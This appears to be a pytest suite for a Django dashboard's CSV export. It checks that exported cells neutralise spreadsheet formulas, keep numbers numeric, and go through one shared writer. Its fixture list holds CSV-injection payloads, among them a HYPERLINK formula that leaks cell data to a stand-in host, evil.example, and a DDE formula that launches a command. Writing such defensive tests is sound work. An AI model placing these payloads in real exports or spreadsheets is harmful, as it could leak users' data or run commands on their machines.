"""CSV exports never carry a live spreadsheet formula (OWASP's CSV-injection rule), numbers stay numbers,
and every CSV the project writes goes through the one shared writer."""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.utils import timezone

from dashboard.csv_export import Number, csv_cell, csv_text
from dashboard.models import Engine, Host, Incident, KVPoolEntry

ROOT = Path(__file__).resolve().parent.parent
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def _csv(client, url):
    response = client.get(url)
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode())))


@pytest.fixture
def engine(db):
    host = Host.objects.create(name="spark")
    return Engine.objects.create(name="nemotron", kind="vllm", url="http://127.0.0.1:8012", host=host)


def test_kvpool_csv_neutralises_formulas_in_notes_and_keeps_negative_numbers(viewer_client, engine):
    now = timezone.now()
    for i, note in enumerate(FORMULAS):
        KVPoolEntry.objects.create(
            recorded_at=now.replace(microsecond=i), engine=engine, memory_share=-3.5, pool_tokens=-2_500_000, note=note
        )
    header, *rows = _csv(viewer_client, "/changelog/ledgers/kvpool.csv")
    share, pool, note = header.index("memory share"), header.index("pool (tokens)"), header.index("note")
    assert [r[note] for r in rows] == ["'" + f for f in FORMULAS]
    assert {r[share] for r in rows} == {"-3.50"} and {r[pool] for r in rows} == {"-2,500,000"}


def test_incident_csv_neutralises_every_text_cell(viewer_client, engine):
    Incident.objects.create(
        opened_at=timezone.now(), unit="=1+1", trigger='=HYPERLINK("http://x")', peak="+5", fix_that_held="@reboot"
    )
    header, row = _csv(viewer_client, "/changelog/ledgers/incidents.csv")
    cells = dict(zip(header, row))
    assert cells["unit"] == "'=1+1" and cells["trigger"] == """'=HYPERLINK("http://x")"""
    assert cells["peak or duration"] == "'+5" and cells["fix that held"] == "'@reboot"


@pytest.mark.parametrize(
    "value,expected",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain", "plain"),
        ("", ""),
        (None, ""),
        ("a=b", "a=b"),
        ("'=already", "'=already"),
        (-3.5, -3.5),
        (-7, -7),
        (Decimal("-1.25"), Decimal("-1.25")),
        (0, 0),
        (Number(-3.5, "{:.2f}"), "-3.50"),
        (True, "True"),
    ],
)
def test_csv_cell(value, expected):
    assert csv_cell(value) == expected


def test_csv_text_writes_numbers_as_numbers():
    text = csv_text(["n", "text"], [[-3.5, "-3.5"], [Number(-1234.5, "{:,.1f}"), "=A1"]])
    assert text.splitlines() == ["n,text", "-3.5,'-3.5", '"-1,234.5",\'=A1']


def test_number_refuses_text():
    with pytest.raises(TypeError):
        Number("=1+1")


def test_every_csv_writer_is_the_shared_one():
    """csv.writer / csv.DictWriter appear only in dashboard/csv_export.py: any other export would skip the rule."""
    offenders = []
    for path in [*ROOT.glob("dashboard/**/*.py"), *ROOT.glob("sparkops/**/*.py"), *ROOT.glob("bench/**/*.py")]:
        if path == ROOT / "dashboard" / "csv_export.py":
            continue
        if re.search(r"\bcsv\.(writer|DictWriter)\b|\bfrom csv import\b", path.read_text()):
            offenders.append(str(path.relative_to(ROOT)))
    assert not offenders, f"write CSV through dashboard.csv_export (csv_text / SafeWriter): {offenders}"
